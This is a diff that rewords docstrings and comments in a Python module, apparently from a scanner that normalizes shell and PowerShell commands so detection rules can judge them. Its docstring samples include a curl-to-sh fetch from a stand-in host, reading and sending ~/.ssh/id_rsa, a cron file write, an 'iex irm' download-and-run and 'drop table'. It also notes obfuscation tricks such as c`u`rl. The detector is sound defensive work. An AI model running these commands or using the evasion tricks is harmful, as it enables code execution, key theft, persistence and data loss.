@@ -1,19 +1,19 @@
-"""Commands, scripts and programs as plain lines, one for each thing that they would do.
+"""Commands, scripts and programs as plain lines, one for each of their effects.
 
 The reading `acts` (detect.scanning.readings) runs the rules about commands over them::
 
     $ curl -s https://x.example/a | $ sh      a pipeline, without quotes, wrappers and tricks
     < ~/.ssh/id_rsa                           a file that a command reads
-    > /etc/cron.d/x                           a file that one writes
+    > /etc/cron.d/x                           a file that a command writes
     ^ ~/.ssh/id_rsa                           a file, or ENV, that is sent over a network
-    RUN a.sh https://h/a.sh                   a program that was fetched before, and from where
+    RUN a.sh https://h/a.sh                   a fetched program that is run, and its source
     CODE import os                            a program in another language
-    MADE curl -d a1b2...                      a command or its input, if its letters were apart
+    MADE curl -d a1b2...                      a command or its input, assembled from parts
     PS iex irm https://x.example/a            a command of PowerShell or cmd
     SQL drop table x                          a statement of a database
 
-A word in quotes for a program that only prints or stores it is no command: a commit's message, or a
-search for one. Knows what programs do with their arguments; which of it is harmful, rules say.
+A quoted word for a program that only prints or stores it is not a command: a commit's message, or a
+search for one. Knows programs' uses of their arguments; rules decide which are harmful.
 """
 
 from __future__ import annotations
@@ -38,7 +38,7 @@ MAX_TEXT = 2**20  # characters of one argument that are read
 MAX_LINES = 40_000
 MAX_DEPTH = 8  # of pipelines inside each other
 MAX_NESTING_DEPTH = 6  # of pipelines whose arguments are read as commands again
-MAX_PIPED_ARGUMENTS = 4000  # characters of a known input that `xargs` makes arguments of
+MAX_PIPED_ARGUMENTS = 4000  # characters of a known input that `xargs` turns into arguments
 MAX_MANIFEST = 1000  # characters of an input that are shown with a command
 MADE = "MADE "
 
@@ -69,7 +69,7 @@ _CALLS_SHELL = lazy_regex(
 
 
 def shell_calls(text: str) -> Iterator[str | list[str]]:
-    """Each script, or list of words, that a program has run."""
+    """Each script, or list of words, that a program executes."""
     for match in find_signed(_CALLS_SHELL, sign_finder(rf"{_CALLING}|`|\bdo shell script\b"), text):
         script = match[2] or match[4] or match[5]
         if match[3] is not None:
@@ -93,8 +93,8 @@ def command_lines(
 
     Args:
         text: the script.
-        windows: False where it contains nothing for PowerShell or cmd.
-        budget: the message's; None where the script is all of it.
+        windows: False if it contains nothing for PowerShell or cmd.
+        budget: the message's; None if the script is all of it.
     """
     interpreter = _Interpreter(text, budget)
     interpreter.run_script(text[:MAX_TEXT])
@@ -106,7 +106,7 @@ def command_lines(
 
 
 def argument_lines(words: Sequence[str], *, budget: ScriptBudget | None = None) -> list[str]:
-    """The lines of a command that is given as a list of words."""
+    """The lines of a command given as a list of words."""
     text = " ".join(words)
     interpreter = _Interpreter(text, budget)
     interpreter.run_words(words)
@@ -117,7 +117,7 @@ def argument_lines(words: Sequence[str], *, budget: ScriptBudget | None = None) 
 
 
 def code_lines(text: str, *, budget: ScriptBudget | None = None) -> list[str]:
-    """The lines of a program in another language than a shell's."""
+    """The lines of a program in a language other than a shell's."""
     interpreter = _Interpreter(text, budget)
     interpreter.run_code(text[:MAX_TEXT])
     return interpreter.all_lines()
@@ -142,7 +142,7 @@ class _Interpreter:
         self._depth = 0
 
     def all_lines(self) -> list[str]:
-        """The lines, as many as are read."""
+        """The lines, up to the limit."""
         self.lines += (f"{MADE}{flat(made)}" for made in dict.fromkeys(self._shell.composed))
         self._budget.is_exceeded = self._budget.is_exceeded or len(self.lines) > MAX_LINES
         return self.lines[:MAX_LINES]
@@ -208,7 +208,7 @@ class _Interpreter:
         self._is_sending = was_sending or self._is_sending
 
     def _find_output(self, pipeline: Pipeline) -> str | None:
-        """Find what a pipeline prints, and note it if the script does not contain it."""
+        """Find a pipeline's output, and note it if the script does not contain it."""
         printed = output(pipeline)
         if printed:
             words = [word for command in pipeline for word in command.words]
@@ -218,7 +218,7 @@ class _Interpreter:
         return printed
 
     def _prepare(self, command: ShellCommand, stdin: str | None) -> ShellCommand:
-        """A command without what only runs it; its input, where it is known, is run as well."""
+        """A command without the programs that only run it; its input, if known, is run as well."""
         words, takes_arguments = unwrap(_with_plain_name(command.words))
         if words:
             words = self._without_globs(_with_plain_name(words))
@@ -229,7 +229,7 @@ class _Interpreter:
         return ShellCommand(words, command.redirects, stdin)
 
     def _without_globs(self, words: list[str]) -> list[str]:
-        """Words with the files that patterns such as `/b?n/sh` are written for."""
+        """Words with the matching files in place of patterns such as `/b?n/sh`."""
         if not any("*" in word or "?" in word or "[" in word for word in words):
             return words
         plain = [match_file(word) for word in words]
@@ -249,7 +249,7 @@ class _Interpreter:
     # -- one command -----------------------------------------------------------------------------
 
     def _command_line(self, command: ShellCommand) -> str:
-        """The line of a command, after the lines for what it does are added; empty for nothing."""
+        """The line of a command, after the lines for its effects are added; empty for nothing."""
         words = command.words
         targets = self._files.redirect(command) if command.redirects else ""
         if not words:
@@ -289,7 +289,7 @@ class _Interpreter:
                 self.lines.append(nested.text)
 
     def _removal_line(self, words: list[str]) -> str:
-        """The line of `rm`, after a line for each thing that it removes is added."""
+        """The line of `rm`, after a line for each removed path is added."""
         options = [word for word in words[1:] if word.startswith("-") and word != "-"]
         name = "rm -r" if any(map(_RECURSIVE.fullmatch, options)) else "rm"
         files = [word for word in words[1:] if not word.startswith("-") and word]
@@ -298,7 +298,7 @@ class _Interpreter:
         return " ".join([f"$ {name} of", *paths])
 
     def _arguments(self, name: str, words: list[str]) -> list[str]:
-        """The arguments; of what changes files, the options first and the paths resolved."""
+        """The arguments; for commands that change files, options first and the paths resolved."""
         arguments = [word for word in words[1:] if word]
         if name not in lists.OPERANDS_LAST:
             return arguments
@@ -310,7 +310,7 @@ class _Interpreter:
 
 
 def _with_plain_name(words: list[str]) -> list[str]:
-    """Words whose first, the command's name, is not partly the output of naming a program.
+    """Words without a command substitution around the program's name in the first one.
 
     A model writes the name as Markdown does, and takes `curl`, c`u`rl and `which curl` for curl.
     """
